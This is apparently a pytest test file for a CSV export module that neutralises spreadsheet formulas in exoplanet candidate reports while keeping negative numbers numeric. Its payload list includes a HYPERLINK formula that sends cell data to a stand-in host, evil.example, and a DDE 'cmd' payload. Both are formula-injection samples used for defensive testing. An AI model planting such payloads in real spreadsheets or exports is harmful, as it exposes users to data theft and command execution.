"""CSV export: spreadsheet formulas neutralised, numbers (negative ones too) kept as numbers."""

from __future__ import annotations

import csv
import io
import math

import numpy as np
import pytest

from exoguard.reports.csv_export import (
    EXPORT_COLUMNS,
    FORMULA_PREFIXES,
    format_cell,
    iter_csv,
    neutralise_text,
    to_csv,
)


def _read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_text_is_neutralised_in_text_columns(payload: str) -> None:
    text = to_csv([{"object_id": payload, "host_id": payload, "disposition": payload}])
    row = _read(text)[0]
    for column in ("object_id", "host_id", "disposition"):
        assert row[column] == "'" + payload
        assert not row[column].startswith(FORMULA_PREFIXES)


def test_negative_numbers_in_numeric_columns_stay_numbers() -> None:
    rows = [
        {
            "candidate_id": 7,
            "object_id": "K00752.01",
            "impact": -0.25,  # a float
            "star_logg_cgs": np.float64(-1.5),  # a numpy scalar
            "equilibrium_temp_k": "-12.5",  # a numeric string in a numeric column
            "depth_ppm": -3,  # an int
            "probability": 0.5,
        }
    ]
    row = _read(to_csv(rows))[0]
    assert row["impact"] == "-0.25"
    assert row["star_logg_cgs"] == "-1.5"
    assert row["equilibrium_temp_k"] == "-12.5"
    assert row["depth_ppm"] == "-3"
    assert float(row["impact"]) == pytest.approx(-0.25, abs=0)
    assert row["candidate_id"] == "7"
    assert row["object_id"] == "K00752.01"


def test_formula_in_a_numeric_column_is_still_neutralised() -> None:
    row = _read(to_csv([{"depth_ppm": "=1+1", "probability": "-1+2"}]))[0]
    assert row["depth_ppm"] == "'=1+1"
    assert row["probability"] == "'-1+2"


def test_negative_number_in_a_text_column_is_text() -> None:
    # A spreadsheet would evaluate "-5" in a text cell; neutralising it keeps the text as given.
    assert format_cell(-5, numeric=False) == "'-5"
    assert format_cell("-5", numeric=False) == "'-5"
    assert format_cell("-5", numeric=True) == "-5"


def test_cells_without_formula_characters_are_unchanged() -> None:
    for text in ("K00752.01", "TIC 25155310", "CONFIRMED", "a=b", "x-y", ""):
        assert neutralise_text(text) == text


def test_missing_values_nan_and_types() -> None:
    assert format_cell(None) == ""
    assert format_cell(float("nan"), numeric=True) == ""
    assert format_cell(math.inf, numeric=True) == ""
    assert format_cell(True) == "true"
    assert format_cell(2454833.123456789, numeric=True) == "2454833.123456789"
    assert float(format_cell(9.488036, numeric=True)) == 9.488036  # round-trips exactly
    assert format_cell(3.0, numeric=True) == "3"


def test_header_order_quoting_and_chunks() -> None:
    rows = [{"candidate_id": i, "object_id": f'obj "{i}", x', "source": "a\nb"} for i in range(5)]
    chunks = list(iter_csv(rows, chunk_rows=2))
    assert len(chunks) == 3  # header + 2 rows, 2 rows, 1 row
    text = "".join(chunks)
    assert text.startswith(",".join(EXPORT_COLUMNS) + "\r\n")
    parsed = _read(text)
    assert [r["object_id"] for r in parsed] == [f'obj "{i}", x' for i in range(5)]
    assert parsed[0]["source"] == "a\nb"
    with pytest.raises(ValueError, match="chunk_rows"):
        list(iter_csv(rows, chunk_rows=0))
